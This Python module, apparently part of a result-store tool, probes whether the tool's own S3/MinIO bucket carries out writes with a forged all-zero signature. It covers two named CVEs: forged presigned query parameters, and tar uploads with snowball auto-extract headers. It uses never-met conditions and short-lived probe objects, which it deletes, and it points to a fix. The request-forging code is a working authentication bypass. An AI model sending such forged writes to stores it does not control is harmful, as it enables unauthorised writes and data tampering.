"""ForgedRequests: writes with a false signature, to find out whether a store carries them out."""

import http.client
import io
import re
import secrets
import tarfile
import time
from collections.abc import Callable, Mapping
from contextlib import suppress
from typing import Final
from urllib.parse import quote, urlsplit

from resultstore.blobs.s3.credentials import CredentialSource
from resultstore.blobs.s3.errors import S3Failure
from resultstore.blobs.s3.target import S3Target
from resultstore.blobs.s3.url_client import connect_to
from resultstore.model import layout
from resultstore.model.errors import ResultStoreError

BY_QUERY: Final = "CVE-2026-41145"
BY_ARCHIVE: Final = "CVE-2026-40344"
PROBE_ID: Final = "probe"
FORGERY_REMEDY: Final = (
    "update the store to a build that has the fix, or put the rule of docs/how-to/minio.md before it"
)

_ANSWER_BYTES: Final = 4096
_CARRIED_OUT: Final = range(200, 300)
# A store answers so only to a request that it would carry out if the condition were met.
_CONDITION_FAILED: Final = re.compile(rb"<Code>(NoSuchKey|PreconditionFailed)</Code>")
_NEVER: Final = {"if-match": '"none"'}
_TRAILER: Final = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
_NO_SIGNATURE: Final = "0" * 64
_BODY: Final = b"probe"


class ForgedRequests:
    """Sends requests that name an access key and were not signed with its secret.

    Anyone who has seen one presigned URL can send such a request: the id of the key is part of the URL. MinIO's last
    upstream source carries them out (GHSA-hv4r-mvr4-25vw and GHSA-9c4q-hq6p-c237).
    Each method raises BlobStoreUnavailable when the store does not answer.

    Args:
        target: the bucket, asked at the endpoint that this process reaches.
        credentials: returns the access key to name; its secret is not used.
    """

    def __init__(self, target: S3Target, *, credentials: CredentialSource) -> None:
        self._target = target
        self._credentials = credentials

    @property
    def key_id(self) -> str:
        """Return the id of the access key that is named."""
        return self._credentials().access_key

    def by_query(self, key: str) -> bool:
        """Return True if the store wrote `key` on a false signature in the query (CVE-2026-41145)."""
        status, _ = self._by_query(self._target.object_key(key), {})
        return status in _CARRIED_OUT

    def by_archive(self, key: str) -> bool:
        """Return True if the store unpacked an archive with `key` in it on a false signature (CVE-2026-40344)."""
        stamp, holder = self._claim()
        name = self._target.object_key(key)
        folder, _, member = name.rpartition("/")
        signed = "SignedHeaders=host;x-amz-content-sha256;x-amz-date"
        headers = {
            "authorization": f"AWS4-HMAC-SHA256 Credential={holder}, {signed}, Signature={_NO_SIGNATURE}",
            "x-amz-date": stamp,
            "x-amz-content-sha256": _TRAILER,
            "x-amz-meta-snowball-auto-extract": "true",
            "x-amz-meta-minio-snowball-prefix": folder,
        }
        if token := self._credentials().session_token:
            headers["x-amz-security-token"] = token
        status, _ = self._send(f"{self._path(name)}.tar", headers, _archive(member))
        return status in _CARRIED_OUT

    def reach(self) -> tuple[str, ...]:
        """Return where outside `uploads/` this key may write on a false signature; () if nowhere.

        Each request has a condition that is never met, so a store that checks conditions writes nothing. Archives have
        no conditions: a store that unpacks one keeps a small blob of class 1d.
        """
        name = f"{PROBE_ID}-{secrets.token_hex(16)}"
        root = self._target.object_key("")
        places = {
            "blobs/": root + probe_keys()[0],
            "seals/": root + layout.seal_key(name),
            "the root": root + name,
            "the bucket": name,
        }
        found = tuple(name for name, key in places.items() if self._would_write(key))
        return found or (("blobs/",) if self.by_archive(probe_keys()[0]) else ())

    def _would_write(self, name: str) -> bool:
        status, answer = self._by_query(name, _NEVER)
        return status in _CARRIED_OUT or _CONDITION_FAILED.search(answer) is not None

    def _by_query(self, name: str, more: Mapping[str, str]) -> tuple[int, bytes]:
        stamp, holder = self._claim()
        claimed = {
            "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
            "X-Amz-Credential": holder,
            "X-Amz-Date": stamp,
            "X-Amz-Expires": "60",
            "X-Amz-SignedHeaders": "host",
            "X-Amz-Signature": _NO_SIGNATURE,
        }
        if token := self._credentials().session_token:
            claimed["X-Amz-Security-Token"] = token
        query = "&".join(f"{name}={quote(value, safe='')}" for name, value in claimed.items())
        body = b"%x\r\n%s\r\n0\r\n\r\n\r\n" % (len(_BODY), _BODY)  # a chunk, the last chunk, no trailers
        headers = {"x-amz-content-sha256": _TRAILER, "x-amz-decoded-content-length": str(len(_BODY)), **more}
        return self._send(f"{self._path(name)}?{query}", headers, body)

    def _claim(self) -> tuple[str, str]:
        """Return the time, and the credential that the request says it has."""
        stamp = time.strftime("%Y%m%dT%H%M%SZ", time.gmtime())
        return stamp, f"{self._credentials().access_key}/{stamp[:8]}/{self._target.region}/s3/aws4_request"

    def _path(self, name: str) -> str:
        folder = f"/{self._target.bucket}/" if self._target.path_style else "/"
        return quote(folder + name, safe="/-_.~")

    def _send(self, path: str, headers: Mapping[str, str], body: bytes) -> tuple[int, bytes]:
        target = self._target
        place = urlsplit(target.origin if target.path_style else target.in_host(target.origin))
        connection = connect_to(place.scheme, place.netloc)
        try:
            connection.request("PUT", path, body=body, headers=dict(headers))
            answer = connection.getresponse()
            status, text = answer.status, answer.read(_ANSWER_BYTES)
        except (OSError, http.client.HTTPException) as error:
            raise S3Failure.of(error).error(target.where, "a probe") from error
        finally:
            connection.close()
        failure = S3Failure.of_answer(status, text.decode(errors="replace"))
        if failure.transient:  # neither accepted nor refused
            raise failure.error(target.where, "a probe")
        return status, text


def try_forgeries(forger: ForgedRequests, *, delete: Callable[[str], None]) -> list[str]:
    """Try each known forgery. Return the advisories that apply to the store.

    Args:
        forger: sends the writes.
        delete: deletes what was written. If it is not allowed to, the lifecycle rules do: the class is 1d.
    """
    found = []
    for cve, forge in ((BY_QUERY, forger.by_query), (BY_ARCHIVE, forger.by_archive)):
        written = next((key for key in probe_keys() if forge(key)), None)
        if written is not None:
            found.append(cve)
            with suppress(ResultStoreError):
                delete(written)
    return found


def probe_keys() -> tuple[str, str]:
    """Return a key below `blobs/` and one below `uploads/`, for one try each.

    The upload comes last: a write there triggers bucket notifications.
    """
    nonce = layout.new_nonce()
    return (
        layout.blob_key(PROBE_ID, retention="1d", nonce=nonce, n=0),
        layout.upload_key(PROBE_ID, retention="1d", nonce=nonce),
    )


def _archive(name: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        member = tarfile.TarInfo(name)
        member.size, member.mtime = len(_BODY), int(time.time())
        archive.addfile(member, io.BytesIO(_BODY))
    return file.getvalue()
